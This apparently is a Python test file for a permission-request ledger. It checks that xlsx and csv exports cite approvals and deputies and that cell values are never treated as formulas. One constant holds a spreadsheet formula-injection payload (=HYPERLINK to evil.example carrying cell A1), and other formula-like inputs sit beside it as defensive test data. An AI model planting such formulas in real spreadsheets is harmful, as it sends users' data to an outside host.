"""The ledger to file: each row cites its approvals, and no text in it is a formula (A5; JC 8(2), JC 15)."""

import io
import re
import shutil
import subprocess
import zipfile
from collections.abc import Iterator
from datetime import date, timedelta
from pathlib import Path

import pytest

from connector.pages import ledger_sheets
from connector.pages.sheets import csv_bytes, xlsx_bytes
from connector.register import deputies
from connector.register.deputies import DeputyForm
from connector.register.offices import OFFICE_NAMES
from connector.regulations.vocabulary import Office, Verdict
from connector.requests.resubmit import resubmit_request
from tests.factories import make_account, make_person
from tests.fixtures_matrix import WHY, adopt, check_of, override, to_department
from tests.town import HOST, NOON, Town, open_town

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


def text_of(pdf: bytes) -> str:
    tool = shutil.which("pdftotext")
    assert tool, "poppler-utils is needed"
    done = subprocess.run([tool, "-raw", "-", "-"], input=pdf, capture_output=True, check=True)
    return "".join(done.stdout.decode().split())


@pytest.fixture
def town(tmp_path: Path) -> Iterator[Town]:
    opened = open_town(tmp_path)
    yield opened
    opened.close()


@pytest.mark.req("A5")
def test_write_names_that_begin_like_formulas_stay_text_in_the_xml() -> None:
    names = [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "http://evil.example/", "0123"]
    book = zipfile.ZipFile(io.BytesIO(xlsx_bytes("台账", ["使用人"], [[name] for name in names])))
    sheet = book.read("xl/worksheets/sheet1.xml").decode()
    shared = book.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheet
    assert "<f " not in sheet
    assert "hyperlink" not in sheet
    cells = re.findall(r'<c r="A\d+"[^>]*t="(\w+)"', sheet)
    assert cells == ["s"] * (1 + len(names))  # every cell points to a text
    assert "=HYPERLINK(" in shared
    assert not [name for name in book.namelist() if "rels/sheet" in name]


def test_write_csv_leads_what_a_sheet_would_take_for_a_formula_with_an_apostrophe() -> None:
    written = csv_bytes(["使用人"], [[FORMULA], ["王"], [3]]).decode("utf-8-sig").splitlines()
    assert written[1].startswith("\"'=HYPERLINK")
    assert written[2:] == ["王", "3"]


@pytest.mark.req("A5", "B8")
def test_list_rows_cite_numbers_offices_names_and_whom_a_deputy_stood_for(town: Town) -> None:
    head = town.actor(Office.UNIT_HEAD, "ywk")
    with town.connector.act(HOST) as act:
        person = make_person(act, "ywk")
        deputy = make_account(act, "ywk", person=person)
        deputy_name, holder_name = person.name, town.centre.person(Office.UNIT_HEAD, "ywk").name
    with town.connector.act(head) as act:
        (held, _), *_ = deputies.own_appointments(act)
        form = DeputyForm(
            appointment_id=held.id, deputy=deputy.user_name, valid_from=date(2026, 3, 10), valid_to=date(2026, 3, 12),
            reason="出差",
        )  # fmt: skip
        deputies.name_deputy(act, form)
    request = town.submit()
    actor = type(head)(**{**head.__dict__, "person_id": deputy.person_id, "name": deputy.user_name})
    request = town.decide(request, actor=actor)
    account = town.account_of(town.approve(request))
    with town.connector.act(HOST) as act:
        _, rows = ledger_sheets.ledger_table(act, text=account.user_name)
        listed = ledger_sheets.listing(act.now, rows)
    ((*_, cited),) = rows
    assert cited.startswith(f"{request.number}；科室（单位）负责人 {deputy_name}（代{holder_name}） 2026-03-10；")
    assert "操作员" in cited
    assert listed["rows"] == rows
    assert len(listed["columns"]) == len(rows[0]) == len(ledger_sheets.COLUMNS)


@pytest.mark.req("A5")
def test_list_by_subsystem_and_as_of_a_past_moment(town: Town) -> None:
    first, second = town.permissions(2)
    with town.connector.act(HOST, now=NOON) as act:
        both, one = make_account(act, "ywk", first, second), make_account(act, "ywk", second)
        names = {both.user_name, one.user_name}
    subsystem = first.split(":")[0]
    with town.connector.act(HOST, now=NOON + timedelta(days=1)) as act:
        _, rows = ledger_sheets.ledger_table(act, subsystem=subsystem)
        assert {row[0] for row in rows} & names == {both.user_name}
        assert second not in next(row for row in rows if row[0] == both.user_name)[8]
        _, before = ledger_sheets.ledger_table(act, as_of=NOON - timedelta(hours=1))
    assert {row[0] for row in before} & names == set()


@pytest.mark.req("A5", "B5")
def test_list_rows_name_who_approved_beyond_the_table_in_this_version(town: Town) -> None:
    allowed, dropped, beyond = town.permissions(3)
    adopt(town, allowed)
    request = town.submit(town.form(permissions=(allowed, dropped, beyond)))
    request = to_department(town, request)
    request = town.decide(request, override=override(check_of(town, request), reason="先前的理由，未生效"))
    request = town.decide(request, Verdict.RETURN, reason="请减少权限")
    with town.connector.act(town.applicant()) as act:
        request = resubmit_request(act, request.number, town.form(permissions=(allowed, beyond)))
    request = to_department(town, request)
    request = town.approve(town.decide(request, override=override(check_of(town, request))))
    user_name = town.account_of(request).user_name
    with town.connector.act(HOST) as act:
        moment, ((*_, cited),) = ledger_sheets.ledger_table(act, text=user_name)
        printed = town.connector.typesetter.pdf("listing", ledger_sheets.listing(moment, [[*_, cited]]), at=act.now)
    head = town.centre.person(Office.SYSTEM_DEPARTMENT_HEAD).name
    office = OFFICE_NAMES[Office.SYSTEM_DEPARTMENT_HEAD].zh
    told = f"超出对照表：{beyond}（例外批准：{office} {head} 2026-03-10；理由：{WHY}）"
    assert told in cited
    assert "先前的理由" not in cited
    assert f"例外批准：{office}{head}" in text_of(printed)


def test_print_list_as_pdf(town: Town) -> None:
    with town.connector.act(HOST) as act:
        moment, rows = ledger_sheets.ledger_table(act)
        made = town.connector.typesetter.pdf("listing", ledger_sheets.listing(moment, rows), at=act.now)
    assert made.startswith(b"%PDF-")
